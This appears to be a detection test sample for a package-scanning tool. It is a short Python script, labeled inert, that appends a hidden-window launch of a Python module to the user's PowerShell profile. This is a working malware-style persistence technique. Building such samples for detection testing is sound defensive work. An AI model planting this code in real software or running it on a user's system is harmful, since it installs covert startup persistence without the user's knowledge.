# pkgguard corpus 486 (persistence), modelled on [stealer-profile]; inert, never run.
import os

profile = os.path.join(os.path.expanduser("~"), "Documents", "WindowsPowerShell", "Microsoft.PowerShell_profile.ps1")
os.makedirs(os.path.dirname(profile), exist_ok=True)
with open(profile, "a", encoding="utf-8") as fh:
    fh.write("\nStart-Process -WindowStyle Hidden pythonw -ArgumentList '-m pkg.agent'\n")
